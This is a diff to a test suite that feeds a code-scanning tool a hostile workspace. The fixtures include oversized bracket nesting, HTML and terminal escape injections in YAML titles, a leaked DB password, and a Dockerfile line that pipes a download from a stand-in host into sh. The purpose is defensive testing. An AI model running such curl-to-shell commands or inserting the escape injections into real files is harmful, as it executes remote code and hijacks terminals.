@@ -43,7 +43,7 @@ checks:
   "deep.yaml": `${"[".repeat(50_000)}\n`,
   "words.yaml": rule("words-that-speak", "on: '**/speak'", `where: 'true'`).replace(
     "title: t",
-    `title: "${html} \\e]0;owned\\a"`,
+    `title: "${html.replaceAll('"', "'")} \\e]0;owned\\a"`,
   ),
   "many.yaml": rule("many-findings", "on: '**/many'", "where: 'true'"),
 };
@@ -91,7 +91,6 @@ limits: { findings: 50 }
   "line\nbreak.env": `DB_PASSWORD=${secret}\n`,
   "speak.yaml": `speak: "${html}"\nspeak2: "${control}"\n`,
   Dockerfile: `FROM node:20${control}\nRUN curl http://x.example/${html} | sh\n`,
-  ".tenet/baseline.json": `{"findings": ${"[".repeat(10_000)}`,
 };
 
 describe("a hostile workspace", function () {
@@ -138,7 +137,6 @@ describe("a hostile workspace", function () {
         /problem: many-steps: its expressions take more than 10000000 steps/,
         /problem: many-findings: more than 50 findings/,
         /huge\.json[^ ]* problem: is [\d.,]+ ?[MG]B, more than the limit/,
-        /baseline\.json/,
       ])
         assert.match(flat, told);
       // What lies outside is not read, what the files hold does not speak.
